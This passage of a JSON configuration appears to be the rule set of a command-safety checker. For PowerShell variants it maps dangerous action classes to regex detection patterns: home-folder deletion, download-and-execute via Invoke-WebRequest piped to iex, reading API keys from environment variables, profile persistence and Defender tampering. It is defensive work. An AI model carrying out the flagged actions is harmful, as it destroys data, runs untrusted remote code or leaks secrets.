-:"","long":[],"dialect":"typed"},"tcc":{"short":"","long":[],"dialect":"typed"},"g++":{"short":"","long":[],"dialect":"typed"},"c++":{"short":"","long":[],"dial\
-ect":"typed"},"clang":{"short":"","long":[],"dialect":"typed"},"clang++":{"short":"","long":[],"dialect":"typed"},"csc":{"short":"","long":[],"dialect":"typed"}\
-,"dart":{"short":"","long":[],"dialect":"typed"},"dotnet":{"short":"","long":[],"dialect":"typed","operands":"code"},"dotnet-script":{"short":"","long":[],"dial\
-ect":"typed","operands":"code"},"pwsh":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"code","ignores\
-":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000\
-}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$))","(#)|\\\\bP\
-arseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(?:\\\\s+-\\\\w+){\
-0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\\))"],"does":\
-{"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\\.)?IO\\\\.Dire\
-ctory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Filter|Include)\
-\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s+-[cCiI]?[iI]\
-n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\\b)(?=[^;\\\\n|]\
-{0,300}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s+-(?!Include|F\
-ilter)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:\
-Get-Content|gc|cat|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,\
-()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"cat ~/$":["(?<![-\\\\\
-w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~[\\"']?\\\\s+(?:-ChildPat\
-h\\\\s+)?[\\"']?([^\\"'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Value)\\\\w+){0,4}\\\\s+([\\"'\
-]?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"\
-while :; do x & done":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|sleep|break|Read-Host|W\
-ait-\\\\w+|return|exit)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b(?:\\\\s+-\\\\w+){0,2}(?:\\\
-\\s+[\\"']?([\\\\w.*,-]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200}[\\"']([^\\"'\\\\n]{1,100\
-})[\\"'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConnection|NetUDPEndpoint))\\\\b(?![\
-^;\\\\n|]{0,100}-LocalPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))"\
-],"killall $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-Name\\\\s+[\\"']?([\\\\w.*-\
-]+)"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-]\
-[^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]{0,300}\\\\|[^;\
-\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get-ChildItem|gc\
-i|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|Set-Content|O\
-ut-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\\\\(\\\\s*([\\"']\
-?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,\
-9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;|,]*)\\\\1(?![^\
-;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTime|Length|Nam\
-e|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$\
-;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java|rb|php|cpp|c\
-|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\\"'])(.*?)\\\\1\
-","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|redis-cli|mongo\
-sh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)?\\\\s(?:'[^'\\\\\
-n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\w+|Mg\\\\w+)\\\\b\
-[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolicy(?![^;\\\\n]{0\
-,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\S]*\\\\b(?:iwr|\
-irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscriptblock\\\\]::Cr\
-eate\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\\\\b[\\\\s\\\\S]*(\
-?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|-match)[^;\\\\n\
-]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encoded"],"operands":"c\
-ode","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(?=[;|\\\\n]|$)","(\\\
-"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{0,40}(?:[;}\\\\n]|$\
-))","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\bSelect-String\\\\b(\
-?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$null\\\\s*\\\
-\\))"],"does":{"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\[(?:System\\\
-\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-(?!Fi\
-lter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Property\\\\s+)?Name\\\\s\
-+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,300}\\\\s-Recurse\\\\\
-b)(?=[^;\\\\n|]{0,300}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdownload)\\\\b))(?:\\\\s+\
--(?!Include|Filter)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(?<![-\\\\w$.]|#[^\\\\\
-n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-\
-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"cat ~/\
-$":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)?[\\"']?~[\\"']?\\\\s\
-+(?:-ChildPath\\\\s+)?[\\"']?([^\\"'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s+-(?!Value)\\\\w+){\
-0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|\
-,()]*)\\\\1"],"while :; do x & done":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start-Sleep|sleep|brea\
-k|Read-Host|Wait-\\\\w+|return|exit)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gps|ps)\\\\b(?:\\\\s+-\\\
-\\w+){0,2}(?:\\\\s+[\\"']?([\\\\w.*,-]+)[\\"']?)?[^;\\\\n|]{0,200}\\\\|\\\\s*(?![^;\\\\n]{0,400}\\\\s-WhatIf(?![:\\\\w]))(?:(?:Where-Object|where|\\\\?)(?:[^;\\\\n|\\"']{0,200}[\\"']([^\
-\\"'\\\\n]{1,100})[\\"'])?[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:(?:ForEach-Object|%)\\\\s*\\\\{[^;\\\\n}]{0,80})?\\\\b(?:Stop-Process|spps)\\\\b","\\\\b(Get-(?:NetTCPConnection|NetUDPEndp\
-oint))\\\\b(?![^;\\\\n|]{0,100}-LocalPort\\\\s+(?:3\\\\d{3}|4200|5173|80[08]\\\\d)\\\\b)[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,200}\\\\b(?:Stop-Process|spps)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatI\
-f(?![:\\\\w]))"],"killall $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Stop-Process|spps)\\\\b(?![^;\\\\n|]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?:\\\\s+-(?!Name)\\\\w+){0,3}\\\\s+-Name\\\\s+[\
-\\"']?([\\\\w.*-]+)"],"truncate -s 0 $":["(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([\
-^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1"],"truncate -s 0 $/*":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1[^;\\\\n]\
-{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Clear-Content|clc)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf)","\\\\bfunction\\\\s+([\\\\w-]+)[^\\\\n]*\\\\bClear-Content\\\\b[\\\\s\\\\S]*\\\\b(?:Get\
--ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\2[^;\\\\n]{0,300}\\\\|\\\\s*\\\\1\\\\b"],"echo x >> ~/.bashrc":["\\\\b(?:Add-Content|\
-Set-Content|Out-File|ac|sc|tee|Tee-Object)\\\\b[^;\\\\n|]{0,300}\\\\$PROFILE\\\\b|>>?\\\\s*\\\\$PROFILE\\\\b"],"rm -r $":["\\\\[(?:System\\\\.)?IO\\\\.(?:Directory|File)\\\\]::Delete\
-\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","(?<![\\"'])\\\\b(?:Remove-Item|rmdir|ri|rm|rd|del)\\\\b(?![^;\\\\n|#]*(?:\\\\s-WhatIf(?![:\\\\w])|\\\\bTestDrive:))(?:\
-\\\\s+-\\\\w+){0,9}(?:\\\\s+([\\"']?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|]*)\\\\1)?","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"']?)((?:[A-Za-z]:|[/~])[^\\\\s\\"'$;\
-|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Where-Object|\\\\?)[^;\\\\n|]{0,300}(?:\\\\$_\\\\.|\\\\s)(?:LastWriteTime|CreationTime|LastAccessTi\
-me|Length|Name|BaseName|FullName|Extension)\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b","\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?:\\\\s+-\\\\w+){0,9}\\\\s+([\\"'\
-]?)([^\\\\s\\"'$;|,-][^\\\\s\\"'$;|,]*)\\\\1(?![^;\\\\n]{0,300}\\\\s-WhatIf(?![:\\\\w]))(?![^;\\\\n]{0,300}(?:(?:-Filter|-Include)\\\\s+(?!\\\\S*\\\\*\\\\.(?:cs|ts|tsx|js|py|go|rs|java\
-|rb|php|cpp|c|h|kt|md)\\\\b)|Where|\\\\?\\\\s*\\\\{))[^;\\\\n]{0,300}\\\\|[^;\\\\n]{0,300}(?<![\\"'])\\\\b(?:Remove-Item|ri|rm|del)\\\\b"],"$":["\\\\b(?:Invoke-Expression|iex)\\\\s+([\
-\\"'])(.*?)\\\\1","(?:^|\\\\n)(?:[^\\"'#\\\\n]{0,200}[;{|&=(])?\\\\s{0,40}((?:git|az|aws|gcloud|kubectl|helm|docker|podman|terraform|tofu|gh|glab|npm|psql|mysql|sqlcmd|re\
-dis-cli|mongosh|cmd|wsl|bash|sh|shutdown|vssadmin|ssh|heroku|firebase|supabase|prisma|npx|dropdb|reg|schtasks|diskpart|icacls|curl|scp|rsync|robocopy)(?:\\\\.exe)\
-?\\\\s(?:'[^'\\\\n]*'|\\"[^\\"\\\\n]*\\"|[^;\\\\n|{}>'\\"])*)","((?:Clear|Format|Initialize|Remove)-(?:Disk|Volume|Partition|LocalUser|Service|VM|Az\\\\w+|EC2\\\\w+|S3\\\\w+|AD\\\\\
-w+|Mg\\\\w+)\\\\b[^;|\\\\n]*)","((?:Stop-Computer|Restart-Computer|Get-StoredCredential|Get-Secret|Clear-EventLog|Clear-RecycleBin|Set-MpPreference|Set-ExecutionPolic\
-y(?![^;\\\\n]{0,300}(?:Process|CurrentUser))|Register-ScheduledTask|New-Service|Stop-Service)\\\\b[^;|\\\\n]*)"],"curl x | sh":["\\\\bscriptblock\\\\]::Create\\\\((?=[\\\\s\\\\\
-S]*\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b)","\\\\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\bscrip\
-tblock\\\\]::Create\\\\(","(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b[\\\\s\\\\S]*\\\\|\\\\s*(?:iex|Invoke-Expression)\\\\b","(?:iex|Invoke-Expression)\
-\\\\b[\\\\s\\\\S]*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\\\\b"],"printenv API_KEY":["(?:Get-ChildItem|gci|ls|dir)\\\\s+Env:[^;\\\\n]{0,300}(?:Where|\
--match)[^;\\\\n]{0,300}(?:KEY|TOKEN|SECRET|PASSW)"]}},"powershell.exe":{"short":"c","long":["Command","command","encoded"],"code":["c","Command","command","encode\
-d"],"operands":"code","ignores":["(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Get-Help|Get-Command|gcm|help)\\\\b[^;|&\\\\n(){}$\\"']{0,500}(\
-?=[;|\\\\n]|$)","(\\"[^\\"]{0,2000}\\"|'[^']{0,2000}'|#)|(?<=(?:^|[;{}\\\\n])\\\\s{0,40})(?:Write-(?:Host|Warning|Verbose)|throw)\\\\s+([\\"'])[^\\"'$()\\\\n]{0,500}\\\\2(?=\\\\s{\
-0,40}(?:[;}\\\\n]|$))","(#)|\\\\bParseInput\\\\(\\\\s{0,40}([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,1000}\\\\2\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*,\\\\s*\\\\[ref\\\\]\\\\$\\\\w+\\\\s*\\\\)","(#)|\\\\b\
-Select-String\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+([\\"'])(?:(?!\\\\2|\\\\$\\\\()[^\\\\n]){0,500}\\\\2","(\\"[^\\"]{0,2000}\\"|#)|\\\\bTokenize\\\\(\\\\s{0,40}'[^'\\\\n]{0,1000}'(?=\\\\s*,\\\\s*\\\\[r\
-ef\\\\]\\\\$null\\\\s*\\\\))"],"does":{"rm -rf ~/*":["\\\\bWin32_UserProfile\\\\b[\\\\s\\\\S]{0,400}\\\\|\\\\s*(?:Remove-CimInstance|Remove-WmiObject)\\\\b(?![^;\\\\n]{0,300}\\\\s-WhatIf\
-)","\\\\[(?:System\\\\.)?IO\\\\.Directory\\\\]::Delete\\\\(\\\\s*\\\\(?\\\\s*(?:Join-Path\\\\s+)?[\\"']?(?:\\\\$HOME|\\\\$env:USERPROFILE|~)(?![\\\\w.])","\\\\b(?:Get-ChildItem|gci|ls|dir\
-)\\\\b(?:\\\\s+-(?!Filter|Include)\\\\w+)*\\\\s+[\\"']?~[\\"']?(?![^;\\\\n]{0,300}\\\\s-(?:WhatIf|Filter|Include)\\\\b)[^;\\\\n|]{0,300}\\\\|\\\\s*(?:(?:Where-Object|\\\\?)\\\\s+(?:-Prop\
-erty\\\\s+)?Name\\\\s+-[cCiI]?[iI]n\\\\b[^;\\\\n|]{0,300}\\\\|\\\\s*)?(?:Remove-Item|ri|rm|del)\\\\b"],"rm -rf ~/Documents":["\\\\b(?:Get-ChildItem|gci|ls|dir)\\\\b(?=[^;\\\\n|]{0,\
-300}\\\\s-Recurse\\\\b)(?=[^;\\\\n|]{0,300}\\\\s-(?:Include|Filter)\\\\s+[\\"']?\\\\*\\\\.(?!(?:tmp|temp|log|bak|old|orig|pyc|pyo|cache|swp|swo|dmp|o|obj|class|etl|part|crdown\
-load)\\\\b))(?:\\\\s+-(?!Include|Filter)\\\\w+){0,9}\\\\s+[\\"']?~[\\"']?\\\\s(?![^;\\\\n]{0,300}\\\\s-WhatIf\\\\b)[^;\\\\n]{0,300}\\\\|\\\\s*(?:Remove-Item|ri|rm|del)\\\\b"],"cat $":["(\
-?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml|Copy-Item|cpi|Move-Item)\\\\b(?:\\\\s+-(?!TotalCount|Tail|First)\\\\w+){0,4}\\\\s+([\\"']?\
-)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:ReadAll\\\\w+|ReadLines|OpenRead|OpenText)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,(\
-)]*)\\\\1"],"cat ~/$":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Get-Content|gc|cat|type|Import-Csv|Import-Clixml)\\\\b(?:\\\\s+-\\\\w+){0,4}\\\\s+\\\\(\\\\s*Join-Path\\\\s+(?:-Path\\\\s+)\
-?[\\"']?~[\\"']?\\\\s+(?:-ChildPath\\\\s+)?[\\"']?([^\\"'$()\\\\s]+)"],"echo x > $":["(?<![-\\\\w$.]|#[^\\\\n]{0,200})(?:Set-Content|Add-Content|Out-File|Tee-Object)\\\\b(?:\\\\s\
-+-(?!Value)\\\\w+){0,4}\\\\s+([\\"']?)([^\\\\s\\"'$;|,()-][^\\\\s\\"'$;|,()]*)\\\\1","\\\\[(?:System\\\\.)?IO\\\\.File\\\\]::(?:WriteAll\\\\w+|AppendAll\\\\w+)\\\\(\\\\s*([\\"']?)([^\\\\s\\"'$;\
-|,()-][^\\\\s\\"'$;|,()]*)\\\\1"],"while :; do x & done":["\\\\b(?:while\\\\s*\\\\(\\\\s*(?:\\\\$true|1)\\\\s*\\\\)|for\\\\s*\\\\(\\\\s*;\\\\s*;\\\\s*\\\\))\\\\s*\\\\{(?![^}]{0,400}(?:\\\\b(?:Start\
--Sleep|sleep|break|Read-Host|Wait-\\\\w+|return|exit)\\\\b|\\\\s-Wait\\\\b))[^}]{0,400}\\\\b(?:Start-Process|Start-Job|saps|sajb)\\\\b"],"pkill -f $":["\\\\b(?:Get-Process|gp\
